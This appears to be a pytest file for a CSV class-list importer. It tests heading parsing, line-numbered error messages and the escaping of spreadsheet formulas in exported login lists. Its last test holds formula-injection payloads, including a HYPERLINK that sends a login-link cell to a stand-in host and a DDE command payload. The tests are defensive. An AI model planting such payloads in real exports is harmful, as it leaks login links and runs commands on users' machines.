"""K4: class lists are read as spreadsheets write them, and mistakes are named by line."""

import csv
from collections.abc import Mapping
from dataclasses import dataclass

import pytest

from deemster.api.user_import.class_list import MAX_ACCOUNTS, read_class_list
from deemster.api.user_import.documents import to_csv
from deemster.domain.account import Role
from deemster.domain.errors import Refused


def test_columns_are_read_by_their_headings() -> None:
    rows = read_class_list(
        "\ufeffFull name;Name;ROLE;daily_quota\r\n"
        'Ada "the first" Lovelace;ada;author;5\r\n\r\n'
        "Grace Hopper ; grace ;;\r\n".encode()
    )
    assert [(row.line, row.name, row.role, row.daily_quota) for row in rows] == [
        (2, "ada", Role.AUTHOR, 5),
        (4, "grace", Role.USER, None),
    ]
    assert rows[1].other == {"Full name": "Grace Hopper"}


MISTAKES = {
    b"": "must have the headings",
    b"login,role\nada,user\n": "one of them must be name",
    b"name\n": "no accounts",
    b"name,name\nada,bob\n": "occurs twice",
    b"name\nada\nbo b\n": "line 3: 'bo b' can't be the name",
    b"name\nada\nAda\n": "line 3: Ada is already in line 2",
    b"name,role\nada,teacher\n": "line 2: 'teacher' is no role: use user, author, admin",
    b"name,password\nada,short\n": "line 2: A password needs at least 10 characters",
    b"name,tier\nada,2\n": "line 2: tier must be a number from 0 to 1",
    b"name,daily_quota\nada,-1\n": "line 2: daily_quota must be a number",
    b"name,x\nada,b,c\n": "line 2 has 3 cells",
    b"name\n\xff\n": "not UTF-8",
    b"name\nada\0\n": "zero bytes",
    b"name\n" + b"".join(b"u%d\n" % n for n in range(MAX_ACCOUNTS + 1)): "more than 20,000",
}


@pytest.mark.parametrize(("content", "message"), MISTAKES.items(), ids=MISTAKES.values())
def test_a_mistake_is_named_with_its_line(content: bytes, message: str) -> None:
    with pytest.raises(Refused) as fault:
        read_class_list(content)
    assert message in str(fault.value)


@dataclass(frozen=True)
class GivenLogIn:
    other: Mapping[str, str]
    name: str = "ada"
    outcome: str = "created"
    password: str | None = None
    link: str | None = None


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&D2)', '\'=HYPERLINK("http://evil.example/?"&D2)'),
        ("@SUM(1)", "'@SUM(1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("+49 30 1234-5", "+49 30 1234-5"),
        ("-3.5", "-3.5"),
        ("Ada = Lovelace", "Ada = Lovelace"),
    ],
)
def test_k4_a_cell_of_the_list_is_no_formula_in_the_answer(cell: str, written: str) -> None:
    """K4: the row has a link that logs in, which a formula could send to others."""
    shown = to_csv([GivenLogIn({"Full name": cell})])
    [row] = csv.DictReader(shown.splitlines())
    assert row["Full name"] == written
